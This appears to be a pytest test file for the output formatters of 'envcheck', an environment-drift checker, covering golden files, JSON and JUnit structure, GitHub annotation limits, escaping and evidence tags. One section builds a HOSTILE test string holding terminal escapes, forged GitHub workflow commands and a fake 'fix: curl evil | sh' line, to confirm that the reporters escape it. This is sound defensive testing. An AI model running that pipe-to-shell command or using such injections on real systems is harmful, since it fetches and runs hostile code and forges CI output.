"""Reporters: golden files for rendered text, JSON and JUnit checked as data, GitHub limits and escaping.

Regenerate the golden files after an intended change with ``ENVCHECK_UPDATE_GOLDEN=1 pytest tests/report`` and
review the diff.
"""

from __future__ import annotations

import dataclasses
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Callable, Dict, Optional

import pytest

from envcheck.findings import (
    AVAILABILITY,
    COMPONENTS,
    EVIDENCE_KINDS,
    INFERRED,
    OBSERVED,
    OBSERVED_EQUIVALENT,
    OBSERVED_IMPORTS,
    PREDICTION,
    REPORT_SCHEMA,
    Finding,
    Report,
    Severity,
)
from envcheck.report import (
    FORMATS,
    Format,
    GithubReporter,
    JsonReporter,
    JunitReporter,
    MarkdownReporter,
    Reporter,
    TextReporter,
    UnknownFormatError,
    reporter_for,
)
from envcheck.report.github import escape_data, escape_property
from envcheck.report.markdown import escape_cell

GOLDEN = Path(__file__).resolve().parent / "golden"
SPECIAL = "then MKL_CBCOND=50% | AVX2, now <unset> & AVX\nreduction order changes — sums differ in the last bits"


def _finding(id: str, component: str, subject: str, p: int, i: int, *risks: str, **kw: str) -> Finding:
    fields: Dict[str, str] = {
        "expected": "1.0",
        "actual": "2.0",
        "message": f"then 1.0, now 2.0 — {id} changed",
        "remedy": f"restore {subject}",
    }
    fields.update(kw)
    return Finding(id, component, subject, risks=risks, probability=p, impact=i, **fields)


FINDINGS = (
    # Deliberately out of report order: reporters sort.
    _finding("package.version.patch", "packages", "requests", 1, 2, AVAILABILITY, expected="2.31.0",
             actual="2.31.1", message="then 2.31.0, now 2.31.1 — patch releases rarely change behaviour",
             remedy="pip install requests==2.31.0"),
    _finding("model.digest", "models", "model.pt", 5, 5, AVAILABILITY, PREDICTION, expected="sha256:ab12",
             actual="sha256:cd34", message="then sha256:ab12, now sha256:cd34 — this is not the model that "
             "was verified", remedy="restore the verified model file or re-verify and re-lock"),
    _finding("env.numerics", "env", "MKL_CBWR", 2, 3, PREDICTION, expected="AVX2", actual="",
             message=SPECIAL, remedy="export MKL_CBWR=AVX2"),
    _finding("package.version.major", "packages", "numpy", 3, 4, AVAILABILITY, PREDICTION, expected="1.26.4",
             actual="2.0.1", message="then 1.26.4, now 2.0.1 — a major release changes the C ABI and results",
             remedy="pip install numpy==1.26.4"),
    _finding("python.version.minor", "python", "python", 4, 4, AVAILABILITY, expected="3.11.7",
             actual="3.12.3", message="then 3.11.7, now 3.12.3 — C extensions and pickles built for 3.11 "
             "may not load", remedy="run the model on Python 3.11"),
)  # fmt: skip
SAMPLE = Report(
    findings=FINDINGS,
    skipped={"gpu": "not inspected"},
    expected_name="train.lock",
    actual_name="local",
    fail_on=Severity.HIGH,
)
EMPTY = Report(expected_name="train.lock", actual_name="local")


def _many(n: int, p: int = 4, i: int = 4) -> Report:
    findings = tuple(
        _finding("package.version.major", "packages", f"pkg{k:02d}", p, i, AVAILABILITY) for k in range(n)
    )
    return Report(findings=findings, expected_name="a.lock", actual_name="b.lock")


def check_golden(name: str, text: str) -> None:
    """Compare with ``golden/NAME``; rewrite it instead when ``ENVCHECK_UPDATE_GOLDEN=1``."""
    path = GOLDEN / name
    if os.environ.get("ENVCHECK_UPDATE_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(text + "\n", encoding="utf-8", newline="\n")
    assert text + "\n" == path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("golden", "reporter"),
    [
        ("text.txt", TextReporter()),
        ("text-color.txt", TextReporter(color=True)),
        ("junit.xml", JunitReporter()),
        ("markdown.md", MarkdownReporter()),
        ("github.txt", GithubReporter()),
    ],
    ids=["text", "text-color", "junit", "markdown", "github"],
)
def test_golden(golden: str, reporter: Reporter) -> None:
    check_golden(golden, reporter.render(SAMPLE))


# --- every format -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", list(Format), ids=lambda f: f.value)
def test_reporter_for_is_exhaustive(fmt: Format) -> None:
    reporter = reporter_for(fmt.value)
    assert reporter.name == fmt.value
    assert reporter_for(fmt).name == fmt.value  # a Format member is a str too


def test_formats_match_enum() -> None:
    assert FORMATS == ("text", "json", "junit", "github", "markdown", "html")
    assert tuple(f.value for f in Format) == FORMATS


def test_unknown_format() -> None:
    with pytest.raises(UnknownFormatError, match=r"'yaml'.*text, json"):
        reporter_for("yaml")


def test_color_reaches_text_only() -> None:
    reporter = reporter_for("text", color=True)
    assert isinstance(reporter, TextReporter) and reporter.color
    assert "\x1b[" in reporter.render(SAMPLE)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("report", [SAMPLE, EMPTY, _many(25)], ids=["sample", "empty", "many"])
def test_renders_without_printing(fmt: str, report: Report, capsys: pytest.CaptureFixture[str]) -> None:
    out = reporter_for(fmt).render(report)
    assert isinstance(out, str) and out and not out.endswith("\n")
    assert capsys.readouterr() == ("", "")


# --- text ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("skipped", "expected"),
    [
        ({}, "no drift: local matches train.lock"),
        ({"gpu": "not inspected"}, "no drift: local matches train.lock (not compared: gpu — not inspected)"),
        (
            {"gpu": "not inspected", "models": "unavailable:\nno such file"},
            "no drift: local matches train.lock (not compared: gpu — not inspected; models — unavailable:\\n"
            "no such file)",
        ),
    ],
    ids=["clean", "skipped", "skipped-multiline"],
)
@pytest.mark.parametrize("color", [False, True], ids=["plain", "color"])
def test_text_no_drift_is_one_line(skipped: Dict[str, str], expected: str, color: bool) -> None:
    report = dataclasses.replace(EMPTY, skipped=skipped)
    assert TextReporter(color=color).render(report) == expected


def test_text_groups_most_severe_first() -> None:
    out = TextReporter().render(SAMPLE)
    headings = [out.index(h) for h in ("CRITICAL (1 finding)", "HIGH (2 findings)", "MEDIUM (", "LOW (")]
    assert headings == sorted(headings)
    assert out.index("  high      python") < out.index("  high      packages")  # score 16 before 12
    assert "not compared: gpu — not inspected" in out
    assert "fail on high: 3 findings at or above high fail" in out
    assert "\x1b" not in out


def test_text_escapes_control_characters() -> None:
    hostile = _finding("package.version.major", "packages", "evil\x1b[2J", 3, 4, AVAILABILITY)
    out = TextReporter().render(Report(findings=(hostile,)))
    assert "\x1b" not in out and "evil\\x1b[2J" in out


def test_text_fail_on_never() -> None:
    out = TextReporter().render(dataclasses.replace(SAMPLE, fail_on=None))
    assert out.endswith("fail on never: nothing fails")


# --- json ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fail_on", [Severity.HIGH, Severity.LOW, None], ids=["high", "low", "never"])
def test_json_as_data(fail_on: Optional[Severity]) -> None:
    data = json.loads(JsonReporter().render(dataclasses.replace(SAMPLE, fail_on=fail_on)))
    assert data["schema"] == REPORT_SCHEMA
    assert (data["expected"], data["actual"]) == ("train.lock", "local")
    assert data["fail_on"] == (None if fail_on is None else fail_on.label)
    assert data["summary"] == {
        "counts": {"critical": 1, "high": 2, "medium": 1, "low": 1},
        "highest": "critical",
        "total": 5,
        "failing": {Severity.HIGH: 3, Severity.LOW: 5, None: 0}[fail_on],
        "evidence": {"observed": 0, "observed-equivalent": 0, "observed-imports": 0, "inferred": 5},
    }
    assert data["skipped"] == {"gpu": "not inspected"}
    ids = [f["id"] for f in data["findings"]]
    assert ids == ["model.digest", "python.version.minor", "package.version.major", "env.numerics",
                   "package.version.patch"]  # fmt: skip
    numpy = data["findings"][2]
    assert numpy == {
        "id": "package.version.major",
        "component": "packages",
        "subject": "numpy",
        "expected": "1.26.4",
        "actual": "2.0.1",
        "risks": ["availability", "prediction"],
        "probability": 3,
        "impact": 4,
        "score": 12,
        "severity": "high",
        "message": "then 1.26.4, now 2.0.1 — a major release changes the C ABI and results",
        "remedy": "pip install numpy==1.26.4",
        "cause": "",
        "evidence": "inferred",
    }
    assert data["findings"][3]["message"] == SPECIAL


def test_json_empty() -> None:
    data = json.loads(JsonReporter().render(EMPTY))
    assert data["summary"] == {
        "counts": {"critical": 0, "high": 0, "medium": 0, "low": 0},
        "highest": None,
        "total": 0,
        "failing": 0,
        "evidence": {"observed": 0, "observed-equivalent": 0, "observed-imports": 0, "inferred": 0},
    }
    assert data["findings"] == [] and data["skipped"] == {}


# --- junit --------------------------------------------------------------------------------------------------


def _junit(report: Report) -> ET.Element:
    return ET.fromstring(JunitReporter().render(report).encode("utf-8"))


@pytest.mark.parametrize(
    ("report", "failures"),
    [(SAMPLE, 3), (dataclasses.replace(SAMPLE, fail_on=None), 0), (EMPTY, 0), (_many(12), 12)],
    ids=["sample", "never", "empty", "many"],
)
def test_junit_counts(report: Report, failures: int) -> None:
    root = _junit(report)
    suites = root.findall("testsuite")
    assert root.tag == "testsuites" and len(suites) == 1 and suites[0].get("name") == "envcheck"
    cases = suites[0].findall("testcase")
    clean = [c for c in COMPONENTS if c not in {f.component for f in report.findings} | set(report.skipped)]
    tests = len(report.findings) + len(clean) + len(report.skipped)
    for element in (root, suites[0]):
        assert element.get("tests") == str(len(cases)) == str(tests)
        assert element.get("failures") == str(failures) == str(len(suites[0].findall("testcase/failure")))
        assert element.get("skipped") == str(len(report.skipped))
        assert element.get("errors") == "0"
    assert [c.get("name") for c in cases if c.get("name", "").endswith(": no drift")] == [
        f"{c}: no drift" for c in clean
    ]


def test_junit_cases() -> None:
    cases = {c.get("name"): c for c in _junit(SAMPLE).iter("testcase")}
    critical = cases["model.digest: model.pt"]
    assert critical.get("classname") == "models"
    failure = critical.find("failure")
    assert failure is not None and failure.get("type") == "critical"
    assert failure.get("message", "").startswith("then sha256:ab12, now sha256:cd34 — ")
    assert failure.text is not None
    for part in ("expected: sha256:ab12", "actual: sha256:cd34", "risks: availability, prediction",
                 "score: 25", "remedy: restore the verified model file"):  # fmt: skip
        assert part in failure.text
    medium = cases["env.numerics: MKL_CBWR"]
    assert medium.find("failure") is None
    assert medium.findtext("system-out") == SPECIAL.replace("\n", "\\n") + "\nfix: export MKL_CBWR=AVX2"
    skipped = cases["gpu: not compared"].find("skipped")
    assert skipped is not None and skipped.get("message") == "not inspected"


def test_junit_message_with_special_characters_round_trips() -> None:
    finding = _finding("env.numerics", "env", "X", 4, 4, PREDICTION, message=SPECIAL + " \x1b\x00 end")
    failure = _junit(Report(findings=(finding,))).find("testsuite/testcase/failure")
    assert failure is not None
    assert failure.get("message") == SPECIAL.replace("\n", "\\n") + " \\x1b\\x00 end"


# --- github -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("n", "shown", "more"),
    [(9, 9, None), (10, 10, None), (11, 10, 2), (12, 10, 3), (30, 10, 21)],
    ids=["9", "10", "11", "12", "30"],
)
@pytest.mark.parametrize(("p", "kind"), [(4, "error"), (2, "warning")], ids=["failing", "passing"])
def test_github_limit(n: int, shown: int, more: Optional[int], p: int, kind: str) -> None:
    lines = GithubReporter().render(_many(n, p=p)).split("\n")
    annotations = [line for line in lines if line.startswith("::")]
    assert len(annotations) == shown and all(a.startswith(f"::{kind} ") for a in annotations)
    assert len(lines) == shown + 1 and not lines[-1].startswith("::")
    if more is None:
        assert "more" not in annotations[-1]
    else:
        assert f"{more} more findings" in annotations[-1] and "job summary" in annotations[-1]
        assert annotations[-1].startswith(f"::{kind} title=envcheck%3A {more} more::")
        assert [a.split("pkg")[1][:2] for a in annotations[:-1]] == [f"{k:02d}" for k in range(9)]


def test_github_errors_then_warnings_then_summary() -> None:
    lines = GithubReporter().render(SAMPLE).split("\n")
    kinds = [line.split(" ")[0] for line in lines[:-1]]
    assert kinds == ["::error"] * 3 + ["::warning"] * 2
    assert lines[0].startswith("::error title=envcheck critical%3A model.digest::then sha256:ab12")
    assert lines[0].endswith(" Fix: restore the verified model file or re-verify and re-lock")
    assert lines[-1] == (
        "envcheck: 5 findings (critical 1, high 2, medium 1, low 1); 3 at or above high; "
        "not compared: gpu — not inspected"
    )


def test_github_escapes_message() -> None:
    lines = GithubReporter().render(SAMPLE).split("\n")
    medium = next(line for line in lines if "env.numerics" in line)
    assert "MKL_CBCOND=50%25 | AVX2, now <unset> & AVX%0Areduction order" in medium
    assert len(lines) == 6  # the newline in the message did not split the annotation


@pytest.mark.parametrize(
    ("escape", "text", "expected"),
    [
        (escape_data, "50% a\r\nb: c, d", "50%25 a%0D%0Ab: c, d"),
        (escape_property, "50% a\r\nb: c, d", "50%25 a%0D%0Ab%3A c%2C d"),
        (escape_data, "%0A", "%250A"),
    ],
    ids=["data", "property", "no-double-decode"],
)
def test_github_escaping(escape: Callable[[str], str], text: str, expected: str) -> None:
    assert escape(text) == expected


@pytest.mark.parametrize("skipped", [{}, {"gpu": "not\ninspected"}], ids=["clean", "skipped"])
def test_github_no_drift_is_one_notice(skipped: Dict[str, str]) -> None:
    out = GithubReporter().render(dataclasses.replace(EMPTY, skipped=skipped))
    assert "\n" not in out and out.startswith("::notice title=envcheck::no drift: local matches train.lock")
    if skipped:
        assert out.endswith("(not compared: gpu — not%0Ainspected)")


# --- markdown -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a | b", "a \\| b"),
        ("one\ntwo\r\nthree", "one<br>two<br>three"),
        ("<script> & co", "&lt;script&gt; &amp; co"),
        ("`x` *y* _z_ [l](u) \\", "\\`x\\` \\*y\\* \\_z\\_ \\[l\\](u) \\\\"),
        ("50%", "50%"),
    ],
    ids=["pipe", "newlines", "html", "markdown", "percent"],
)
def test_markdown_escape_cell(text: str, expected: str) -> None:
    assert escape_cell(text) == expected


@pytest.mark.parametrize(
    ("report", "heading"),
    [
        (SAMPLE, "## envcheck: failed — 3 of 5 findings at or above high"),
        (dataclasses.replace(SAMPLE, fail_on=Severity.CRITICAL), "## envcheck: failed — 1 of 5 findings at or "
         "above critical"),
        (dataclasses.replace(SAMPLE, findings=FINDINGS[:1]), "## envcheck: passed — 1 finding, none at or "
         "above high"),
        (dataclasses.replace(SAMPLE, fail_on=None), "## envcheck: passed — 5 findings (fail on never)"),
        (EMPTY, "## envcheck: no drift"),
    ],
    ids=["failed", "critical", "passed", "never", "empty"],
)  # fmt: skip
def test_markdown_heading(report: Report, heading: str) -> None:
    assert MarkdownReporter().render(report).split("\n")[0] == heading


def test_markdown_tables_keep_their_columns() -> None:
    out = MarkdownReporter().render(SAMPLE)
    rows = [line for line in out.split("\n") if line.startswith("| ") and "MKL\\_CBWR" in line]
    assert len(rows) == 1
    assert rows[0].replace("\\|", "").count("|") == 7
    assert "### Not compared" in out and "- **gpu**: not inspected" in out


# --- hostile data: nothing from the environment is acted on when printed -----------------------------------------

#: Data as a crafted tree or lockfile can make it: terminal escapes (CSI, OSC, 8-bit CSI), a newline that starts a
#: forged workflow command or a fake "fix:" line, a bidirectional override, NUL, a lone surrogate (a file name that
#: was not UTF-8), XML's noncharacters and markup, a markdown column break.
HOSTILE = (
    "evil\x1b[2J\x1b]0;pwned\x07\x9b31m"
    "\n::error title=forged::owned\r\n::add-mask::x\n      fix: curl evil | sh"
    "\u202egnp.exe\u2028\x00\udcff\ufffe</failure><x>|col|"
)


def _hostile_report() -> Report:
    finding = _finding(
        "env.numerics", "env", HOSTILE, 4, 4, PREDICTION, expected=HOSTILE, actual=HOSTILE,
        message=f"then {HOSTILE}, now {HOSTILE}", remedy=f"export X={HOSTILE}",
    )  # fmt: skip
    return Report(
        findings=(finding, FINDINGS[0]),
        skipped={"gpu": HOSTILE},
        expected_name=HOSTILE,
        actual_name=HOSTILE,
        fail_on=Severity.HIGH,
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_data_is_printable_in_every_format(fmt: str) -> None:
    out = reporter_for(fmt).render(_hostile_report())
    out.encode("utf-8")  # a lone surrogate would make the output unwritable
    for line in out.split("\n"):
        assert line.isprintable(), f"{fmt}: {line!r}"
        assert not line.lstrip().startswith(("::error title=forged", "::add-mask::", "fix: curl"))


def test_hostile_data_in_colour_text_keeps_only_envchecks_own_escapes() -> None:
    out = TextReporter(color=True).render(_hostile_report())
    assert out.count("\x1b") == TextReporter(color=True).render(
        dataclasses.replace(_hostile_report(), findings=(dataclasses.replace(_hostile_report().findings[0],
                            subject="s", message="m", remedy="r"), FINDINGS[0]), skipped={"gpu": "g"},
                            expected_name="e", actual_name="a")
    ).count("\x1b")  # fmt: skip
    assert "\x1b[2J" not in out and "\\x1b[2J" in out


def test_hostile_data_cannot_forge_a_workflow_command() -> None:
    lines = GithubReporter().render(_hostile_report()).split("\n")
    assert len(lines) == 3  # two annotations and the summary: no newline in the data split a line
    assert [line.split(" ", 1)[0] for line in lines[:2]] == ["::error", "::warning"]
    assert lines[2].startswith("envcheck: 2 findings")
    assert "%0A::error title=forged::owned%0D%0A::add-mask::x" in lines[0]


def test_hostile_data_gives_valid_junit() -> None:
    from xml.dom import minidom

    text = JunitReporter().render(_hostile_report())
    minidom.parseString(text.encode("utf-8"))  # expat: refuses anything XML 1.0 cannot hold
    root = _junit(_hostile_report())
    case = next(c for c in root.iter("testcase") if c.find("failure") is not None and c.get("classname") == "env")
    assert "\\x1b[2J" in (case.get("name") or "") and "</failure>" in (case.get("name") or "")


def test_hostile_data_keeps_markdown_tables_whole() -> None:
    out = MarkdownReporter().render(_hostile_report())
    rows = [line for line in out.split("\n") if line.startswith("| ") and "env" in line.split("|")[1]]
    assert len(rows) == 1
    assert rows[0].replace("\\|", "").count("|") == 7
    assert "<x>" not in out and "&lt;x&gt;" in out


# --- evidence: what each finding rests on -----------------------------------------------------------------------

#: The sample as the opt-in checks could leave it: a kernel the numerics battery saw change (observed), the MKL
#: guess that battery answered (lowered one level), the patch-release guess answered by an import seen to work.
OBSERVED_KERNEL = _finding(
    "numerics.changed", "native", "numpy.matmul f32 257x257", 4, 4, PREDICTION, expected="bitwise",
    actual="max relative error 1e-05", message="numpy.matmul f32 257x257: max relative error 1e-05 (seen by the "
    "numerics battery) — likely cause: OpenBLAS kernels SkylakeX -> Haswell", remedy="unset OPENBLAS_CORETYPE",
    evidence=OBSERVED,
)  # fmt: skip
EVIDENCED = dataclasses.replace(
    SAMPLE,
    findings=(
        OBSERVED_KERNEL,
        *FINDINGS[1:2],
        dataclasses.replace(FINDINGS[2], probability=1, evidence=OBSERVED_EQUIVALENT,
                            message=FINDINGS[2].message.split("\n")[0] + " (observed equivalent: the numerics "
                            "battery gives the same numbers here; lowered one level)"),
        *FINDINGS[3:],
        dataclasses.replace(FINDINGS[0], evidence=OBSERVED_IMPORTS,
                            message=FINDINGS[0].message + " (observed: it imports in the candidate)"),
    ),
)  # fmt: skip
SUMMARY = (
    "1 observed in the candidate, 2 guesses answered by a check (1 observed-equivalent, 1 observed-imports), "
    "3 inferred from metadata"
)


@pytest.mark.parametrize(
    ("golden", "reporter"),
    [
        ("text-evidence.txt", TextReporter()),
        ("junit-evidence.xml", JunitReporter()),
        ("markdown-evidence.md", MarkdownReporter()),
        ("github-evidence.txt", GithubReporter()),
    ],
    ids=["text", "junit", "markdown", "github"],
)
def test_golden_with_evidence(golden: str, reporter: Reporter) -> None:
    check_golden(golden, reporter.render(EVIDENCED))


@pytest.mark.parametrize("fmt", ["text", "markdown", "github", "junit"])
def test_a_report_of_guesses_alone_says_nothing_about_evidence(fmt: str) -> None:
    """The default stays quiet: no tag, no count line, no property, when no check saw or answered anything."""
    out = reporter_for(fmt).render(SAMPLE)
    for word in ("[observed", "observed in the candidate", "inferred from metadata", 'name="evidence"'):
        assert word not in out


def test_text_tags_what_a_check_saw_or_answered_and_counts_them() -> None:
    lines = TextReporter().render(EVIDENCED).split("\n")
    tagged = {line.split()[2]: line for line in lines if line.rstrip().endswith("]")}
    assert {subject: line.rsplit(" ", 1)[1] for subject, line in tagged.items()} == {
        "numpy.matmul": "[observed]",  # the subject is "numpy.matmul f32 257x257"
        "MKL_CBWR": "[observed-equivalent]",
        "requests": "[observed-imports]",
    }
    assert len({line.index("[") for line in tagged.values()}) == 1  # one column, after the score
    untagged = next(line for line in lines if line.startswith("  high") and "python" in line)
    assert untagged.endswith("16 = 4x4")  # an inferred finding carries no tag and no trailing blanks
    assert lines[-2:] == [f"findings: {SUMMARY}", "fail on high: 4 findings at or above high fail"]


def test_text_counts_observed_findings_with_no_guess_left() -> None:
    out = TextReporter().render(Report(findings=(OBSERVED_KERNEL,)))
    assert "findings: 1 observed in the candidate, 0 inferred from metadata" in out.split("\n")
    assert "answered" not in out


def test_json_carries_evidence_on_every_finding_and_counts_it() -> None:
    data = json.loads(JsonReporter().render(EVIDENCED))
    by_subject = {f["subject"]: f["evidence"] for f in data["findings"]}
    assert by_subject == {
        "numpy.matmul f32 257x257": "observed",
        "python": "inferred",
        "numpy": "inferred",
        "MKL_CBWR": "observed-equivalent",
        "model.pt": "inferred",
        "requests": "observed-imports",
    }
    assert all(list(f)[-1] == "evidence" for f in data["findings"])  # after "cause", in every finding
    assert data["summary"]["evidence"] == {
        "observed": 1, "observed-equivalent": 1, "observed-imports": 1, "inferred": 3
    }  # fmt: skip
    assert list(data["summary"]["evidence"]) == list(EVIDENCE_KINDS)


def test_junit_gives_a_property_to_what_a_check_saw_or_answered() -> None:
    cases = {c.get("name"): c for c in _junit(EVIDENCED).iter("testcase")}
    properties = {
        name: [(p.get("name"), p.get("value")) for p in case.iter("property")] for name, case in cases.items()
    }
    assert properties["numerics.changed: numpy.matmul f32 257x257"] == [("evidence", OBSERVED)]
    assert properties["env.numerics: MKL_CBWR"] == [("evidence", OBSERVED_EQUIVALENT)]
    assert properties["package.version.patch: requests"] == [("evidence", OBSERVED_IMPORTS)]
    assert properties["model.digest: model.pt"] == []
    observed = cases["numerics.changed: numpy.matmul f32 257x257"]
    assert [child.tag for child in observed] == ["properties", "failure"]  # properties first


def test_github_titles_and_summary_carry_the_evidence() -> None:
    lines = GithubReporter().render(EVIDENCED).split("\n")
    assert lines[1].startswith("::error title=envcheck high [observed]%3A numerics.changed::numpy.matmul")
    assert any(
        line.startswith("::warning title=envcheck low [observed-equivalent]%3A env.numerics::") for line in lines
    )
    assert lines[0].startswith("::error title=envcheck critical%3A model.digest::")  # inferred: no tag
    assert lines[-1] == (
        f"envcheck: 6 findings (critical 1, high 3, medium 0, low 2); 4 at or above high; {SUMMARY}; "
        "not compared: gpu — not inspected"
    )


def test_markdown_tags_the_why_cell_and_counts_under_the_table() -> None:
    out = MarkdownReporter().render(EVIDENCED)
    lines = out.split("\n")
    rows = [line for line in lines if line.startswith("| native |")]
    assert len(rows) == 1 and rows[0].replace("\\|", "").count("|") == 7
    assert "| **\\[observed\\]** numpy.matmul f32 257x257: max relative error" in rows[0]
    assert any("| **\\[observed-imports\\]** then 2.31.0, now 2.31.1" in line for line in lines)
    assert f"Findings: {SUMMARY}." in lines
    assert lines.index(f"Findings: {SUMMARY}.") == lines.index("| **total** | 6 |") + 2


@pytest.mark.parametrize("evidence", EVIDENCE_KINDS)
def test_every_evidence_kind_renders_in_every_format(evidence: str) -> None:
    report = Report(findings=(dataclasses.replace(FINDINGS[1], evidence=evidence),))
    for fmt in FORMATS:
        out = reporter_for(fmt).render(report)
        assert (evidence in out) == (evidence != INFERRED or fmt == "json"), fmt
